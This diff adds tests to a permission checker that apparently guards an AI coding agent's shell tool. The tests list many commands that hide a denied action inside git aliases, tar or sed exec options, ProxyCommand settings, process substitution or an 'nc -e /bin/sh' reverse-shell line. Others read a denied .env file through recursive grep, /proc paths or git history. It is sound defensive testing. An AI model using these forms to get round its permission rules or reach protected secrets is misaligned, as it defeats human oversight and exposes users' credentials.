@@ -349,3 +349,90 @@ def test_a_suggested_rule_does_not_allow_other_commands(root: Path, cmd: str, wi
                                            ("git log 'x", "Bash(git)"), ("make 'x", "Bash(make)")])
 def test_unparseable_suggestions_fall_back_to_the_bare_program(root: Path, cmd: str, rule: str) -> None:
     assert policy(root).suggest_rule("Bash", bash(cmd)) == rule
+
+
+# ---------------------------------------------------------------- found by a review after the first round
+
+@pytest.mark.parametrize(
+    "cmd",
+    ["git grep -e -- -e '' -O'touch P'", "sort --random-source -- -S 1k --compress-program=sh f",
+     "sort -T -- -o pwned a", "file -F -- -C -m m", "git describe --dirty", "git describe --broken"],
+)
+def test_a_double_dash_that_is_an_option_value_does_not_end_the_options(cmd: str) -> None:
+    assert not is_read_only_command(cmd)[0]
+
+
+TOUCH_HIDDEN = [
+    "time -p touch P", "function f { touch P; }; f", "coproc X { touch P; }; wait",
+    "shopt -s expand_aliases; alias t=touch\nt P", "echo $(case a in a) touch P;; esac)", "nice {touch,P}",
+    "time {touch,P}", "! {touch,P}", "env /usr/bin/tou?h P", "echo 'touch P' | xargs -0 sh -c",
+    "echo touch P | xargs env", "find /usr/bin -name touch -exec {} P \\;", "echo 'touch P' | bash -",
+    "echo x | sh /dev/stdin", "bash <(echo touch P)", "source <(echo touch P)", ". /dev/stdin <<< 'touch P'",
+    "python3 - <<< 'import os'", "perl -le 'system q(touch P)'", "perl -ne 1", "python3 -Sc 'import os'",
+    "env -iS'touch P'", "env --split-s='touch P'", "git -c alias.a=b -c alias.b='!touch P' a",
+    "git ls-remote --upload-pack='touch P;' .", "git -c trailer.s.command='touch P' interpret-trailers",
+    "git rebase --exec 'touch P' HEAD~1", "git difftool -y -x 'touch P;:' HEAD~1", "HOME=. git status",
+    "XDG_CONFIG_HOME=cfg git status", "sed -n '1!e touch P' f", "sed '/b/Ie touch P' f",
+    "tar --checkpoint-action=exec='touch P' -cf /dev/null f", "tar --to-command='touch P' -xf a.tar",
+    "tar -I 'touch P' -xf a", "zip -T -TT 'touch P' a.zip f", "gdb -batch -ex 'shell touch P'",
+    "vim -es -c '!touch P' -c q", "make -f - <<< 'all:; touch P'", "make --eval='x:=$(shell touch P)'",
+    "scp -o ProxyCommand='touch P' a b:", "ssh -oProxyCommand=x h", "LESSOPEN='|touch P %s' less f",
+    "busybox touch P", "git bisect run touch P", "git submodule foreach 'touch P'", "man -P 'touch P' ls",
+    "nc -e /bin/sh h 1", "awk '{@f()}'", "rsync -e 'touch P' a b:",
+]
+
+
+@pytest.mark.parametrize("cmd", TOUCH_HIDDEN)
+def test_deny_rules_see_through_what_the_review_found(root: Path, cmd: str) -> None:
+    p = policy(root, ("managed", {"deny": ["Bash(touch:*)"]}), mode="bypassPermissions")
+    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Deny), cmd
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ["make build", "make -f Makefile.ci test", "git log --grep=touch", "ssh host ls", "tar -xzf a.tgz",
+     "perl script.pl", "node app.js", "git rebase main", "sed 's/e/x/' f", "sed -e 's/a/b/' f",
+     "awk '{print $1}' f", "source .venv/bin/activate && pytest", "git add -u", "git cherry-pick -x abc",
+     "vim file", "less README.md"],
+)
+def test_ordinary_commands_do_not_match_an_unrelated_deny_rule(root: Path, cmd: str) -> None:
+    p = policy(root, ("user", {"deny": ["Bash(touch:*)"], "allow": ["Bash"]}))
+    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Allow), cmd
+
+
+@pytest.fixture
+def tracked_secret(root: Path) -> Path:
+    import subprocess
+
+    (root / ".env").write_text("SECRET=1\n")
+    (root / "src" / "a.py").write_text("x\n")
+    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
+    subprocess.run(["git", "add", "-f", ".env", "src/a.py"], cwd=root, check=True)
+    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "i"], cwd=root, check=True)
+    return root
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    ["grep --directories recurse SECRET .", "grep --dir=recurse SECRET .", "grep --directories=rec SECRET .",
+     "grep -e -- -r -e SECRET .", "diff -N . src", "git diff --no-index . /tmp", "file -f.env", "cat ~+/.env",
+     "cat /proc/self/cwd/.env", 'git show "HEAD@{1 year ago}:.env"', "git log -p", "git show HEAD"],
+)
+def test_read_deny_rules_hold_for_what_the_review_found(tracked_secret: Path, cmd: str) -> None:
+    p = policy(tracked_secret, ("project", {"deny": ["Read(.env)"]}))
+    assert isinstance(p.can_use_tool("Bash", bash(cmd)), Ask), cmd
+
+
+def test_history_views_ask_only_when_a_denied_file_is_tracked(tracked_secret: Path) -> None:
+    p = policy(tracked_secret, ("project", {"deny": ["Read(./secrets/**)"]}))
+    assert isinstance(p.can_use_tool("Bash", bash("git log -p")), Allow)
+    assert isinstance(policy(tracked_secret, ("project", {"deny": ["Read(.env)"]})).can_use_tool(
+        "Bash", bash("git log --oneline")), Allow)
+
+
+@pytest.mark.parametrize("cmd", ["grep -r x" + " ." * 400, "nice" + " 1" * 1000, "sudo" + " 1" * 10_000])
+def test_hostile_repetition_stays_fast(root: Path, cmd: str) -> None:
+    p = policy(root, ("project", {"deny": ["Read(.env)", "Bash(curl:*)"]}))
+    start = time.perf_counter()
+    p.can_use_tool("Bash", bash(cmd))
+    assert time.perf_counter() - start < 10  # were 18 s, 10 s and 111 s; see bench_bash_safety
